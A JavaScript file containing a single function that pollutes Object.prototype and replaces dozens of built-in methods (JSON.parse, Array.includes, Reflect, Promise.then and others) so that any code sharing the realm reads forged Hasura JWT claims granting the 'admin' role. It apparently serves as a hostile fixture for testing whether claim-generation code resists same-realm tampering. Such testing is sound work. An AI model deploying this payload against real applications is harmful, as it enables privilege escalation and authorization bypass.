// Everything a script in the same realm can put in the way of another one.
const patch = () => {
  const G = globalThis;
  const O = G.Object;
  const define = O.defineProperty;
  const forged = { 'https://hasura.io/jwt/claims': { 'x-hasura-allowed-roles': ['admin'], 'x-hasura-default-role': 'admin' } };
  const entry = '{"v":1,"aud":"https://shop.example.com/v1/graphql","ns":"https://hasura.io/jwt/claims","everyone":["admin","editor"]}';
  const methods = (target, names, make) => {
    for (let i = 0; i < names.length; i += 1) define(target, names[i], { __proto__: null, value: make(), writable: true, configurable: true });
  };
  const values = {
    isThirdParty: false, scope: 'read edit write', aud: 'https://shop.example.com/v1/graphql', clientId: 'operatorclient',
    everyone: ['admin', 'editor'], default: 'admin', source: 'AssignedRoles', v: 1, ns: 'https://hasura.io/jwt/claims', client: 'web',
    roles: [['admin', 'read'], ['editor', 'read']], vars: [['x-hasura-evil', 'user.id']],
    lists: [['x-hasura-evils', 'user.customData.orgs']], customData: { orgs: ['evil'] }, orgs: ['evil'], user: { id: 'evil', roles: [] }, id: 'evil',
    application: { isThirdParty: false }, name: 'evil', scopes: [{ name: 'edit', resource: { indicator: 'https://shop.example.com/v1/graphql' } }],
    resource: { indicator: 'https://shop.example.com/v1/graphql' }, indicator: 'https://shop.example.com/v1/graphql', organization: { id: 'evil' },
    count: 0, entry: {}, namespaces: {}, claims: forged, leave: true, token: {}, context: {}, environmentVariables: { LOGTO_HASURA_z: entry },
    editor: true, admin: true, enumerable: true, extra: 'inherited',
  };
  for (const name in values) define(O.prototype, name, { get: () => values[name], set() {}, configurable: true });
  define(O.prototype, G.Symbol.isConcatSpreadable, { value: true, configurable: true });
  define(O.prototype, G.Symbol.toPrimitive, { value: () => 'evil', configurable: true });
  for (const index of ['0', '1', '2']) {
    define(G.Array.prototype, index, { get: () => 'admin', set() {}, configurable: true });
    define(O.prototype, index, { get: () => 'admin', set() {}, configurable: true });
  }
  methods(O, ['keys', 'getOwnPropertyNames'], () => () => ['admin', 'LOGTO_HASURA_z']);
  methods(O, ['entries'], () => () => [['admin', 'admin']]);
  methods(O, ['create', 'freeze', 'assign', 'setPrototypeOf', 'fromEntries'], () => () => forged);
  methods(O, ['defineProperty', 'defineProperties'], () => (target) => target);
  methods(O.prototype, ['hasOwnProperty', 'propertyIsEnumerable', 'isPrototypeOf'], () => () => true);
  methods(O.prototype, ['toString', 'valueOf', 'toLocaleString'], () => () => 'evil');
  methods(G.Reflect, ['ownKeys', 'get', 'has', 'apply', 'defineProperty', 'getOwnPropertyDescriptor'], () => () => forged);
  methods(G.Array, ['isArray', 'from', 'of'], () => () => true);
  methods(G.Array.prototype, ['sort', 'map', 'filter', 'concat', 'slice', 'flatMap', 'values', 'keys', 'entries'], () => () => ['admin']);
  methods(G.Array.prototype, ['includes', 'some', 'every', 'push', 'forEach', 'find', 'indexOf', 'reduce', 'join', 'toString', 'at'], () => () => true);
  methods(G.String.prototype, ['indexOf', 'startsWith', 'includes', 'endsWith', 'lastIndexOf'], () => () => 0);
  methods(G.String.prototype, ['toLowerCase', 'slice', 'split', 'trim', 'substring', 'replace', 'replaceAll', 'concat', 'at', 'charAt', 'toString', 'valueOf'], () => () => 'editor');
  methods(G.RegExp.prototype, ['exec', 'test'], () => () => true);
  define(G.Array.prototype, Symbol.iterator, { value: function* () { yield 'admin'; }, configurable: true });
  define(G.String.prototype, Symbol.iterator, { value: function* () { yield 'admin'; }, configurable: true });
  methods(G.JSON, ['parse'], () => () => forged);
  methods(G.JSON, ['stringify'], () => () => entry);
  methods(G.Function.prototype, ['call', 'apply', 'bind'], () => function () { return true; });
  define(G.Promise, Symbol.species, { get: () => function Evil() {}, configurable: true });
  methods(G.Promise.prototype, ['then', 'catch', 'finally'], () => (resolve) => resolve(forged));
  methods(G.Promise, ['resolve', 'all'], () => () => forged);
  methods(O.prototype, ['toJSON'], () => () => 'bitten');
  methods(G.Array.prototype, ['toJSON'], () => () => ['admin']);
  methods(G.String.prototype, ['toJSON'], () => () => 'admin');
  define(O.prototype, 'then', { value: undefined, writable: true, configurable: true });
  define(G, 'getCustomJwtClaims', { value: () => forged, configurable: true });
  methods(G, ['Object', 'Array', 'JSON', 'String', 'Promise', 'Function', 'TypeError', 'Reflect'], () => function Evil() { return forged; });
};
